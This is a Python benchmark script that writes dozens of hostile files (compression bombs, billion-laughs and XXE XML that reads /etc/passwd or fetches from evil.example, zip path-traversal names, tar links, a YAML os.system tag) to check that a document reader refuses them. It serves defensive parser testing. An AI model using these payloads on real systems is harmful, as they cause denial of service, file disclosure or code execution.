"""Write files made to hang, crash, fill or fool a reader; each with what must be said of it.

    python benchmarks/attacks.py FOLDER

The test suite audits the same files; nothing in them is dangerous to keep.
"""

import bz2
import gzip
import io
import lzma
import stat
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

WORDS = "The harbour office opens at seven, and the kettle is on from a quarter to.\n"
MEGABYTE = 1 << 20
BOMB = 100 * MEGABYTE
"""Bytes that a bomb unpacks to; none is ever held in memory, here or in a reader."""
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


class Attack(NamedTuple):
    """How a file is made, and words that a problem of it must have; none where it may be read."""

    make: Callable[[], bytes]
    said: str = ""


def write(folder: Path) -> None:
    """Write every attack into *folder*."""
    for name, attack in ATTACKS.items():
        (folder / name).write_bytes(attack.make())


def deflated(blocks: Iterator[bytes]) -> bytes:
    packer = zlib.compressobj(1)  # the size of a bomb is what it unpacks to
    return b"".join(packer.compress(block) for block in blocks) + packer.flush()


def zeros(size: int) -> Iterator[bytes]:
    return (bytes(MEGABYTE) for _ in range(size // MEGABYTE))


def pdf(*objects: bytes) -> bytes:
    """Write a PDF of these objects, numbered from 1; the first is the catalog."""
    out = [b"%PDF-1.7\n"]
    table = [b"0000000000 65535 f \n"]
    at = len(out[0])
    for number, body in enumerate(objects, 1):
        table.append(b"%010d 00000 n \n" % at)
        out.append(b"%d 0 obj" % number + body + b"endobj\n")
        at += len(out[-1])
    size = len(table)
    end = b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (size, at)
    return b"".join([*out, b"xref\n0 %d\n" % size, *table, end])


def stream(data: bytes, more: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<<" + more + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream"


CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
NOTHING = stream(zlib.compress(b"BT ET"))


def pdf_bomb() -> bytes:
    return pdf(CATALOG, PAGES, PAGE, stream(deflated(zeros(BOMB))))


def pdf_form_bomb() -> bytes:
    """Hide the bomb in a form, which pypdf need not unpack and pdfium must."""
    bomb = deflated(b"q " * (MEGABYTE // 2) for _ in range(150))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources 5 0 R>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Filter/FlateDecode"
    named = b"<</XObject<</X 6 0 R>>>>"
    return pdf(CATALOG, PAGES, page, stream(b"/X Do", b""), named, stream(bomb, form))


def pdf_tree(pages: bytes) -> bytes:
    return pdf(CATALOG, pages, PAGE, NOTHING)


def pdf_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + count))
    pages = b"<</Type/Pages/Count %d/Kids[%b]>>" % (count, kids)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf(CATALOG, pages, *[page] * count)


def zipped(*members: tuple[str | zipfile.ZipInfo, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb(name: str, start: bytes = b"", filler: bytes = b"\0", *more: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("good.txt", WORDS)
        with archive.open(name, "w") as member:
            member.write(start)
            for _ in range(BOMB // MEGABYTE):
                member.write(filler * MEGABYTE)
        for other in more:
            archive.writestr(other, WORDS)
    return out.getvalue()


def docx(document: str) -> bytes:
    return zipped(("[Content_Types].xml", "<x/>"), ("word/document.xml", document))


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "lol">{LAUGHS}]><d>&a9;</d>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
FETCHED = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><d/>'
)
REFUSED = "a DOCTYPE with declarations of its own; refused"


def warc(body: bytes, length: int) -> bytes:
    head = (
        "WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: https://a.example/\r\n"
        f"WARC-Date: 2024-07-24T10:00:00Z\r\nContent-Type: text/plain\r\n"
        f"Content-Length: {length}\r\n\r\n"
    )
    return head.encode() + body


RECORD = warc(WORDS.encode(), len(WORDS)) + b"\r\n\r\n"


def warc_bomb() -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=1) as packed:
        packed.write(warc(b"", BOMB))
        for block in zeros(BOMB):
            packed.write(block)
        packed.write(b"\r\n\r\n")
    return out.getvalue() + gzip.compress(RECORD)


def page(body: str) -> bytes:
    return f"<html><body>{body}{WORDS}".encode()


def aliases() -> bytes:
    lines = ["a0: &a0 [x, x]"] + [f"a{n}: &a{n} [{f'*a{n - 1}, ' * 9}]" for n in range(1, 20)]
    front = "\n".join([*lines, "title: *a19"])
    return f"---\n{front}\n---\n{WORDS}".encode()


def python_tag() -> bytes:
    front = "title: !!python/object/apply:os.system ['touch pwned']\nauthor: [" + "[" * 500
    return f"---\n{front}\n---\n{WORDS}".encode()


def mail(headers: str, body: str = "words") -> bytes:
    return f"MIME-Version: 1.0\n{headers}\n\n{body}\n".encode()


def nested_mail(depth: int) -> bytes:
    heads = (f'Content-Type: multipart/mixed; boundary="{n}"\n\n--{n}\n' for n in range(depth))
    return b"MIME-Version: 1.0\n" + "".join(heads).encode() + b"\nwords\n"


def names() -> bytes:
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    wrong = ("../evil.txt", "/etc/evil.txt", "C:\\evil.txt", "a\\..\\..\\evil.txt")
    return zipped(
        ("good.txt", WORDS), *((name, WORDS) for name in wrong), (link, "/etc/passwd"),
        ("twice.txt", WORDS), ("twice.txt", "Other words altogether.\n"),
    )  # fmt: skip


def tar_links() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        info = tarfile.TarInfo("good.txt")
        info.size = len(WORDS)
        archive.addfile(info, io.BytesIO(WORDS.encode()))
        for name, kind in (("soft", tarfile.SYMTYPE), ("hard", tarfile.LNKTYPE)):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
    return out.getvalue()


def nested_zip(depth: int) -> bytes:
    data = zipped(("good.txt", WORDS))
    for number in range(depth):
        data = zipped((f"{number}.zip", data))
    return data


def sheet_bomb() -> bytes:
    """Have one long text, and refer to it from many cells."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    cells = "".join(f'<c n="{n * 7_919}" t="s"><v>0</v></c>' for n in range(30_000))
    return zipped(
        ("xl/workbook.xml", f'<w xmlns:r="{relation}"><sheet name="x" r:id="a"/></w>'),
        ("xl/_rels/workbook.xml.rels", '<r><Relationship Id="a" Target="a.xml"/></r>'),
        ("xl/sharedStrings.xml", f"<s><si><t>{WORDS * 20}</t></si></s>"),
        ("xl/a.xml", f"<s><row>{cells}</row></s>"),
    )


def overlapping(count: int) -> bytes:
    """Write a zip whose directory names one packed member many times."""
    data = zipped(("000.txt", WORDS * 99))
    start, end = data.index(b"PK\1\2"), data.rindex(b"PK\5\6")
    entries = data[start:end] * count
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(entries), start, 0)
    return data[:start] + entries + tail


def strange_names() -> bytes:
    names = ("a\nb.txt", "\x1b[2Jc.txt", "\u202egnp.txt", "x" * 60_000, "a/./b", " ")
    return zipped(*((name, WORDS) for name in names))


def tarred(*members: tarfile.TarInfo) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for info in members:
            archive.addfile(info, io.BytesIO(WORDS.encode().ljust(info.size)))
    return out.getvalue()


def tar_kinds() -> bytes:
    kinds = (tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE, tarfile.CONTTYPE)
    members = [tarfile.TarInfo(f"{number}.txt") for number in range(len(kinds))]
    for info, kind in zip(members, kinds, strict=True):
        info.type = kind
    return tarred(*members)


def tar_sparse() -> bytes:
    """Say that a member of a kilobyte has holes of ten terabytes."""
    info = tarfile.TarInfo("x.txt")
    info.size = 1_024
    sparse = {"major": "1", "minor": "0", "name": "x.txt", "realsize": "9999999999999"}
    info.pax_headers = {f"GNU.sparse.{name}": value for name, value in sparse.items()}
    data = tarred(info)
    return data.replace(WORDS.encode()[:8], b"1\n0\n10\n\0", 1)


def tar_long_name() -> bytes:
    info = tarfile.TarInfo("x.txt")
    info.pax_headers = {"path": "y" * 3_000_000}
    return gzip.compress(tarred(info))


def response(headers: str, body: bytes) -> bytes:
    data = f"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n{headers}\r\n\r\n".encode() + body
    record = warc(data, len(data)).replace(b"resource", b"response")
    return record.replace(b"text/plain", b"application/http", 1) + b"\r\n\r\n"


def sheet_of_repeats() -> bytes:
    spaces = "xmlns:t='urn:oasis:names:tc:opendocument:xmlns:table:1.0' "
    spaces += "xmlns:x='urn:oasis:names:tc:opendocument:xmlns:text:1.0'"
    row = "<t:table-row t:number-rows-repeated='1000000000'>"
    cell = "<t:table-cell t:number-columns-repeated='1000000000'><x:p>words</x:p>"
    cell += "<x:s x:c='2000000000'/>"
    return zipped(
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        (
            "content.xml",
            f"<o {spaces}><t:table>{row}{cell}</t:table-cell></t:table-row></t:table></o>",
        ),
    )


def xmp_bomb() -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/Metadata 5 0 R>>"
    return pdf(catalog, PAGES, PAGE, NOTHING, stream(BILLION.encode(), b"/Type/Metadata"))


def pdf_page(of_stream: bytes) -> bytes:
    return pdf(CATALOG, PAGES, PAGE, stream(zlib.compress(bytes(1_000)), of_stream))


ATTACKS = {
    "pdf-bomb.pdf": Attack(pdf_bomb, "unpacks to more than 100 times its size (limits: ratio)"),
    "pdf-form-bomb.pdf": Attack(pdf_form_bomb, "(limits: memory)"),
    "pdf-count.pdf": Attack(lambda: pdf_tree(b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>")),
    "pdf-loop.pdf": Attack(lambda: pdf_tree(b"<</Type/Pages/Count 2000000000/Kids[2 0 R]>>")),
    "pdf-twins.pdf": Attack(lambda: pdf_tree(b"<</Type/Pages/Count 1/Kids[2 0 R 2 0 R]>>")),
    "pdf-pages.pdf": Attack(lambda: pdf_pages(2_001), "2,001 pages, over the limit of 2,000"),
    "docx-bomb.docx": Attack(
        lambda: zip_bomb("word/document.xml", f"<w:d xmlns:w='{W}'>".encode(), b" "),
        "unpacks to more than 100 times its size",
    ),
    "docx-laughs.docx": Attack(lambda: docx(BILLION), REFUSED),
    "xml-outside.xml": Attack(OUTSIDE.encode, REFUSED),
    "xml-fetched.xml": Attack(FETCHED.encode, REFUSED),
    "xml-deep.xml": Attack(
        lambda: b"<?xml version='1.0'?>" + b"<a>" * 100_000, "elements nested deeper than 100"
    ),
    "xlsx-cells.xlsx": Attack(sheet_bomb, "over the limit of 20,000,000 characters"),
    "warc-bomb.warc.gz": Attack(warc_bomb, "over the limit of 64,000,000 bytes"),
    "warc-whole.warc.gz": Attack(lambda: gzip.compress(RECORD * 3)),
    "warc-torn.warc.gz": Attack(lambda: gzip.compress(RECORD)[:-60], "breaks off"),
    "warc-chunks.warc.gz": Attack(lambda: gzip.compress(RECORD[:99]) + gzip.compress(RECORD[99:])),
    "warc-short.warc": Attack(lambda: RECORD[:-30], "of its bytes are missing"),
    "html-deep.html": Attack(lambda: page("<div>" * 100_000)),
    "html-attributes.html": Attack(lambda: page("<div " + "a=b " * 200_000 + ">")),
    "html-comments.html": Attack(lambda: page("<!--" * 200_000)),
    "html-anchors.html": Attack(lambda: page("<a " * 200_000)),
    "yaml-aliases.md": Attack(aliases),
    "yaml-python.md": Attack(python_tag),
    "mail-comments.eml": Attack(lambda: mail("From: " + "(" * 5_000)),
    "mail-addresses.eml": Attack(lambda: mail("From: " + "a@b.example, " * 20_000)),
    "mail-headers.eml": Attack(
        lambda: mail("X: y\n" * 100_000), "100,001 header fields, over the limit of 1,000"
    ),
    "mail-nested.eml": Attack(lambda: nested_mail(3_000), "parts within parts, over the limit of"),
    "mail-nested-less.eml": Attack(lambda: nested_mail(400)),
    "zip-bomb.zip": Attack(
        lambda: zip_bomb("bomb.txt", b"", b"\0", "last.txt"), "unpacks to more than 100 times"
    ),
    "zip-names.zip": Attack(names, "leads out of the archive"),
    "zip-nested.zip": Attack(lambda: nested_zip(4), "more than 3 containers in each other"),
    "zip-members.zip": Attack(
        lambda: zipped(*((f"{number}.txt", b"") for number in range(60))), "more than 50 members"
    ),
    "tar-links.tar.gz": Attack(tar_links, "it is a link; refused"),
    "text-line.txt": Attack(
        lambda: b"one line without an end, " * 50_000, "1,250,000 characters, over the limit of"
    ),
    "text-large.txt": Attack(lambda: b"many lines without an end\n" * 2_500_000, "fixity only"),
    "json-deep.json": Attack(lambda: b'{"text": "x", "b": ' + b"[" * 100_000),
    "pdf-kids.pdf": Attack(
        lambda: pdf_tree(b"<</Type/Pages/Count 1/Kids" + b"[" * 100_000), "broken"
    ),
    "pdf-itself.pdf": Attack(lambda: pdf_tree(b"<</Type/Pages/Count 2 0 R/Kids 2 0 R>>"), "broken"),
    "pdf-filters.pdf": Attack(
        lambda: pdf_page(b"/Filter[" + b"/FlateDecode" * 5_000 + b"]"), "Maximum filter count"
    ),
    "pdf-columns.pdf": Attack(
        lambda: pdf_page(
            b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 32>>"
        ),
        "exceeds defined limit of 1000000. (limits: ratio)",
    ),
    "pdf-laughs.pdf": Attack(xmp_bomb, REFUSED),
    "zip-overlap.zip": Attack(lambda: overlapping(5_000), "made of the bytes of other members"),
    "zip-strange.zip": Attack(strange_names),
    "zip-locked.zip": Attack(
        lambda: zipped(("a.txt", WORDS)).replace(b"\x14\0\0\0\x08", b"\x14\0\1\0\x08"),
        "it is encrypted",
    ),
    "tar-kinds.tar": Attack(tar_kinds, "it is a device or a pipe; refused"),
    "tar-sparse.tar": Attack(tar_sparse, "over the limit of 64,000,000 bytes"),
    "tar-name.tar.gz": Attack(tar_long_name, "unpacks to more than 100 times"),
    "gzip-bomb.txt.gz": Attack(lambda: gzip.compress(bytes(BOMB), 1), "unpacks to more than 100"),
    "bzip2-bomb.txt.bz2": Attack(lambda: bz2.compress(bytes(BOMB), 1), "unpacks to more than 100"),
    "xz-bomb.txt.xz": Attack(
        lambda: lzma.compress(bytes(BOMB), preset=0), "unpacks to more than 100"
    ),
    "ods-repeats.ods": Attack(sheet_of_repeats),
    "warc-length.warc": Attack(lambda: warc(WORDS.encode(), 10**18), "of its bytes are missing"),
    "warc-chunk.warc": Attack(
        lambda: response("Transfer-Encoding: chunked", b"FFFFFFFFFFFF\r\nwords")
    ),
    "warc-packed.warc": Attack(
        lambda: response("Content-Encoding: gzip", gzip.compress(bytes(BOMB), 1)),
        "over the limit of 64,000,000 bytes",
    ),
    "mail-forwarded.eml": Attack(
        lambda: mail("Content-Type: message/rfc822\n\n" * 5_000), "nested too deep to be read"
    ),
    "mail-words.eml": Attack(lambda: mail("Subject: " + "=?utf-8?q?a?= " * 20_000)),
    "mail-quotes.eml": Attack(lambda: mail('From: "' + '\\"' * 50_000 + "\nDate: " + "(" * 50_000)),
    "json-number.json": Attack(
        lambda: b'{"text": "x", "n": ' + b"9" * 900_000 + b"}", "has too long a number"
    ),
    "json-halves.json": Attack(
        lambda: b'{"title": "\\ud800", "text": "' + b"\\ud800 words " * 900 + b'"}'
    ),
    "yaml-flow.md": Attack(lambda: b"---\ntitle: " + b"[" * 50_000 + b"\n---\n", "over 20 deep"),
    "yaml-anchors.md": Attack(
        lambda: b"---\ntitle: " + b"&a " * 30_000 + b"\n---\nwords\n", "line 2"
    ),
    "xml-attributes.xml": Attack(
        lambda: (
            b"<?xml version='1.0'?><d " + b" ".join(b"a%d='x'" % n for n in range(50_000)) + b"/>"
        )
    ),
    "html-entities.html": Attack(lambda: page("&amp" * 50_000 + "&#" * 50_000)),
    "html-formats.html": Attack(lambda: page("<p><b><i><a href=x>" * 20_000)),
    "html-data.html": Attack(
        lambda: page('<script type="application/ld+json">' + '{"a":' * 50_000 + "</script>")
    ),
    "text-wide.txt": Attack(lambda: (WORDS * 99).encode("utf-16-be")),
    "text-marks.txt": Attack(("a" + "\u0301" * 200_000).encode),
    "text-zeros.txt": Attack(lambda: b"words\0" * 50_000),
    "json-lines.jsonl": Attack(
        lambda: b'{"text": "The same few words."}\n' * 60, "more than 50 records"
    ),
}
RULES = "audit: 1\ndocuments: {limits: {members: 50, records: 50}}\n"
"""Limits low enough for a test to reach them soon."""


if __name__ == "__main__":
    target = Path(sys.argv[1])
    (target / "input").mkdir(parents=True, exist_ok=True)
    write(target / "input")
    (target / "audit.yml").write_text(RULES)
    print(f"{len(ATTACKS)} files in {target / 'input'}; now: cd {target} && audit check input")
